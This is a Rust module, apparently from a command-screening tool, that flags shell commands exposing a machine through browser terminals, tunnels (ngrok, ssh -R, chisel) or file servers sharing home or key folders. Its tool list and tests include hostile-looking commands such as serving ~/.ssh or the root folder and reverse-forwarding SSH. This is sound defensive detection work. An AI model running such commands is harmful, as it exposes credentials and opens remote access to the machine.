//! Doors that a command opens to this machine: tunnels, terminals in a browser, servers of whole folders.

use super::Case;
use super::places::is_within;
use crate::effects::path::absolute_str;
use crate::effects::{Run, Text};

/// The programs that are looked at here; all others pass without another look.
const OPENERS: &[&str] = &[
    "tmate",
    "ttyd",
    "gotty",
    "wetty",
    "shellinabox",
    "shellinaboxd",
    "sshx",
    "upterm",
    "code",
    "code-insiders",
    "ngrok",
    "cloudflared",
    "lt",
    "localtunnel",
    "bore",
    "zrok",
    "tailscale",
    "chisel",
    "frpc",
    "rathole",
    "playit",
    "ssh",
    "autossh",
    "python",
    "python3",
    "python2",
    "serve",
    "http-server",
    "live-server",
    "servor",
    "miniserve",
    "darkhttpd",
    "static-server",
    "updog",
    "simple-http-server",
    "php",
    "ruby",
    "httpd",
    "caddy",
    "rclone",
    "twistd",
    "twistd3",
];

/// What would be open to others, if anything is.
pub(super) fn opened(case: &Case<'_>, run: &Run) -> Option<&'static str> {
    if !OPENERS.contains(&run.name.as_str()) {
        return None;
    }
    let words: Vec<&str> = run.args.iter().map(Text::known).collect();
    if gives_terminal(run, &words) {
        Some("a terminal on this machine")
    } else if tunnels(run, &words) {
        Some("a port of this machine")
    } else if served(run, &words).is_some_and(|folder| is_too_much(case, run, folder)) {
        Some("a folder beyond the project")
    } else {
        None
    }
}

/// Whether others get a terminal here.
fn gives_terminal(run: &Run, words: &[&str]) -> bool {
    match run.name.as_str() {
        "tmate" => !matches!(words.first(), Some(&"-V" | &"show")),
        "ttyd" | "gotty" | "wetty" | "shellinabox" | "shellinaboxd" | "sshx" | "upterm" => {
            !run.only_informs()
        }
        "code" | "code-insiders" => words.first() == Some(&"tunnel"),
        _ => false,
    }
}

/// Whether a port of this machine can be reached from elsewhere by way of somebody's server.
fn tunnels(run: &Run, words: &[&str]) -> bool {
    let first = words.first().copied().unwrap_or("");
    match run.name.as_str() {
        "ngrok" => matches!(first, "http" | "tcp" | "tls" | "start"),
        "cloudflared" => {
            first == "tunnel"
                && words.iter().any(|word| matches!(*word, "--url" | "run") || word.starts_with("--url="))
        }
        "lt" | "localtunnel" => {
            words.iter().any(|word| matches!(*word, "-p" | "--port") || word.starts_with("--port="))
        }
        "bore" => first == "local",
        "zrok" => first == "share",
        "tailscale" => first == "funnel" && words.len() > 1,
        "chisel" => first == "client" && words.iter().any(|word| word.starts_with("R:")),
        "frpc" | "rathole" | "playit" => true,
        "ssh" | "autossh" => {
            !words.iter().any(|word| matches!(*word, "localhost" | "127.0.0.1")) && forwards_from_there(words)
        }
        _ => false,
    }
}

/// `ssh -R 80:localhost:3000 host`: the option may end a bundle or have its value attached.
fn forwards_from_there(words: &[&str]) -> bool {
    let is_forward = |value: &str| {
        value.starts_with(|c: char| c.is_ascii_digit() || c == '*')
            && value.chars().all(|c| c.is_ascii_alphanumeric() || ".:*-_[]".contains(c))
    };
    let bundle = |word: &str| word.starts_with('-') && !word.starts_with("--") && !word.starts_with("-o");
    words.windows(2).any(|pair| bundle(pair[0]) && pair[0].ends_with('R') && is_forward(pair[1]))
        || words
            .iter()
            .any(|word| word.strip_prefix("-R").is_some_and(|value| !value.is_empty() && is_forward(value)))
}

/// The folder that a server of files gives out.
fn served<'w>(run: &Run, words: &[&'w str]) -> Option<&'w str> {
    let after =
        |options: &[&str]| words.windows(2).find(|pair| options.contains(&pair[0])).map(|pair| pair[1]);
    let first_operand = || {
        words.iter().copied().find(|word| !word.starts_with('-') && !word.chars().all(|c| c.is_ascii_digit()))
    };
    match run.name.as_str() {
        "python" | "python3" | "python2" => {
            let serves = words.windows(2).any(|pair| {
                pair[0] == "-m"
                    && matches!(pair[1], "http.server" | "SimpleHTTPServer" | "pyftpdlib" | "uploadserver")
            });
            serves.then(|| after(&["-d", "--directory"]).unwrap_or("."))
        }
        "serve" | "http-server" | "live-server" | "servor" | "miniserve" | "darkhttpd" | "static-server"
        | "updog" | "simple-http-server" => {
            Some(after(&["-d", "--directory"]).or_else(first_operand).unwrap_or("."))
        }
        "php" if words.contains(&"-S") => Some(after(&["-t"]).unwrap_or(".")),
        "ruby" if words.contains(&"-run") => {
            words.iter().copied().skip_while(|word| *word != "httpd").nth(1).or(Some("."))
        }
        "httpd" if words.contains(&"-h") => after(&["-h"]),
        "caddy" if words.first() == Some(&"file-server") => Some(after(&["--root", "-root"]).unwrap_or(".")),
        "rclone" if words.first() == Some(&"serve") => words.get(2).copied(),
        "twistd" | "twistd3" => after(&["--path"]),
        _ => None,
    }
}

/// Whether a folder holds more than what a project would show: home, what is above it, or keys below it.
fn is_too_much(case: &Case<'_>, run: &Run, folder: &str) -> bool {
    let only_here = run.args.iter().any(|arg| {
        matches!(arg.known(), "127.0.0.1" | "localhost")
            || arg.known().starts_with("localhost:")
            || arg.known().starts_with("127.0.0.1:")
    });
    let home = case.ctx.home.trim_end_matches('/');
    let folder = folder.strip_prefix('~').map_or_else(|| folder.to_owned(), |rest| format!("{home}{rest}"));
    let place = absolute_str(&folder, run.cwd.literal().unwrap_or(case.ctx.cwd));
    let hidden = place.strip_prefix(home).is_some_and(|below| below.starts_with("/."));
    !only_here && (is_within(home, &place) || hidden)
}

#[cfg(test)]
mod tests {
    use super::super::testing::{passes, stops};

    #[test]
    fn doors_to_this_machine_are_asked_about() {
        stops(&[
            ("ngrok http 3000", "exfiltration/exposure"),
            ("ssh -o StrictHostKeyChecking=no -R 80:localhost:3000 serveo.example", "exfiltration/exposure"),
            ("ssh -fNR 2222:localhost:22 dev@x.example", "exfiltration/exposure"),
            ("npx serve ~", "exfiltration/exposure"),
            ("cd ~ && python3 -m http.server", "exfiltration/exposure"),
            ("python3 -m http.server -d /home/dev/.ssh", "exfiltration/exposure"),
            ("php -S 0.0.0.0:80 -t /", "exfiltration/exposure"),
            ("ttyd bash", "exfiltration/exposure"),
        ]);
    }

    #[test]
    fn a_project_may_be_served() {
        passes(&[
            "npx serve dist -l 5000",
            "python3 -m http.server 8000",
            "python3 -m http.server -d ~ --bind 127.0.0.1",
            "ssh -L 5432:localhost:5432 staging",
            "ssh staging 'grep -R 80:x /srv'",
            "ngrok config check",
        ]);
    }
}
